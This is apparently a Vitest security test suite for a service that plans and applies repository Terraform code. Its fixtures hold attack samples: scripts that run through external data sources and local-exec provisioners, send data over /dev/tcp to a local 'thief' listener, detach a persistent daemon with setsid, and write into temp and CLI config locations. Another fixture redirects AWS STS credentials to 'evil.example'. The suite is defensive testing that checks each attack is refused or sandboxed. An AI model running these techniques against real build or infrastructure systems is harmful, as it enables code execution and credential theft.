/** Code of the repository that runs while it is planned or applied: refused, and where it is let in, it finds nothing and stays nowhere. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { lockFile } from '../../support/providers.ts';
import { requires } from '../../support/requirements.ts';
import { nothingLeft } from '../../task-image/stage.ts';
import {
  type Attack,
  type Battlefield,
  battlefield,
  type GatedAttack,
  heldByTheSandbox,
  type Prey,
  refusedByTheGate,
  withGateOpen,
} from './attack.ts';
import { external, looter, ran } from './looter.ts';

const opened = { state: 'succeeded', loot: ran } as const;
const withExternal = (
  script: (name: string, prey: Prey) => string,
): Pick<GatedAttack, 'rule' | 'files' | 'opened'> => ({
  rule: 'external-data',
  files: (prey, name) => ({
    'main.tf': external,
    'loot.sh': script(name, prey),
    '.terraform.lock.hcl': lockFile('external'),
  }),
  opened,
});
const resource = (provisioner: string) => `resource "terraform_data" "x" {\n${provisioner}}\n`;
const localExec = '  provisioner "local-exec" {\n    command = "bash loot.sh"\n  }\n';

const gated: readonly GatedAttack[] = [
  { name: 'external-data', row: 'RCE-01', ...withExternal(looter) },
  {
    name: 'external-data-in-a-module',
    ...withExternal(looter),
    files: (prey, name) => ({
      'main.tf': 'module "m" { source = "../../modules/m" }\n',
      '/modules/m/main.tf.json': JSON.stringify({
        check: {
          c: {
            data: { external: { x: { program: ['bash', `\${path.module}/loot.sh`] } } },
            assert: [{ condition: '${data.external.x.result != null}', error_message: 'no' }],
          },
        },
      }),
      '/modules/m/loot.sh': looter(name, prey),
      '.terraform.lock.hcl': lockFile('external'),
    }),
  },
  {
    name: 'provisioner',
    row: 'RCE-02',
    rule: 'provisioner',
    command: 'apply',
    files: (prey, name) => ({ 'main.tf': resource(localExec), 'loot.sh': looter(name, prey) }),
    opened,
  },
  {
    name: 'failing-provisioner',
    rule: 'provisioner',
    command: 'apply',
    files: (prey, name) => ({ 'main.tf': resource(localExec), 'loot.sh': `${looter(name, prey)}exit 1\n` }),
    opened: { state: 'failed', code: 'E_APPLY', loot: ran },
  },
  {
    // Its environment is empty, its group and session are its own, its parent is gone, and it holds no file of ours.
    name: 'daemon',
    row: 'RCE-34',
    ...withExternal(
      (name, { thiefPort }) => `cat >daemon.sh <<'EOF'
exec 3<>/dev/tcp/127.0.0.1/${thiefPort} </dev/null >/dev/null 2>&1
printf '%s\\n' ${name} '${ran}' >&3
trap '' INT TERM HUP
for i in $(seq 600); do sleep 1; done
EOF
(setsid env -i PATH=/usr/bin:/bin setsid bash daemon.sh </dev/null >/dev/null 2>&1 &)
sleep 0.5
echo '{}'
`,
    ),
  },
  {
    name: 'leavings',
    row: 'RCE-35',
    ...withExternal(
      (name, { thiefPort }) => `exec 3<>/dev/tcp/127.0.0.1/${thiefPort}
printf '%s\\n' ${name} '${ran}' >&3
for place in /tmp /var/tmp /dev/shm /run "$HOME" "$TMPDIR" "$TF_DATA_DIR" "$(dirname "$TF_CLI_CONFIG_FILE")" . .. ../..; do
  [ -e "$place/left-by-${name}" ] && echo "still there: $place" >&3
  : >"$place/left-by-${name}"
done 2>/dev/null
: >"$TF_CLI_CONFIG_FILE" && echo 'the CLI configuration can be written' >&3
echo '{}'
`,
    ),
  },
];

const refused: readonly (Attack & { readonly rule: string })[] = [
  {
    name: 'provisioner-in-removed',
    rule: 'provisioner',
    files: {
      'main.tf': `removed {
  from = terraform_data.x
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "bash loot.sh"
  }
}
`,
    },
  },
  {
    name: 'http-data',
    row: 'RCE-04',
    rule: 'http-data',
    files: ({ thiefPort }) => ({
      'main.tf': `data "http" "x" {\n  url = "http://127.0.0.1:${thiefPort}/http-data"\n}\n`,
    }),
  },
  {
    name: 'provider-of-another-host',
    row: 'RCE-08',
    rule: 'provider',
    files: ({ thiefPort }) => ({
      'main.tf': `terraform {\n  required_providers {\n    aws = { source = "127.0.0.1:${thiefPort}/x/aws" }\n  }\n}\n`,
    }),
  },
  {
    name: 'provider-that-is-not-allowed',
    rule: 'provider',
    stack: { providers: { allow: ['hashicorp/null'] } },
    files: { 'main.tf': 'resource "random_id" "x" {}\n', '.terraform.lock.hcl': '' },
  },
  {
    name: 'provider-credentials',
    row: 'RCE-38',
    rule: 'provider-credentials',
    files: {
      'main.tf': `provider "aws" {
  region = "eu-west-1"
  assume_role {
    role_arn = "arn:aws:iam::222222222222:role/admin"
  }
  endpoints {
    sts = "https://evil.example"
  }
}
`,
    },
  },
];

describe.skipIf(requires('sshd', 'terraform', 'providers'))('code of the repository', { timeout: 60_000 }, () => {
  let field: Battlefield;
  beforeAll(async () => {
    field = await battlefield([...gated, ...gated.map(withGateOpen), ...refused]);
  });
  afterAll(() => field?.stop());

  test.each([...gated, ...refused])('$name is refused before it runs', attack =>
    refusedByTheGate(field, { ...attack, command: 'plan' }, attack.rule),
  );

  test.each(gated)('$name finds and leaves nothing where it is let in', attack => heldByTheSandbox(field, attack));

  test('a second run finds nothing that the first one left', async () => {
    const again = gated.find(({ name }) => name === 'leavings');
    if (again) await heldByTheSandbox(field, again);
    expect(field.thief.loot('leavings-let-in')).not.toMatch(/still there|can be written/);
  });

  test('nothing is left of any', () => nothingLeft(field.server));
});
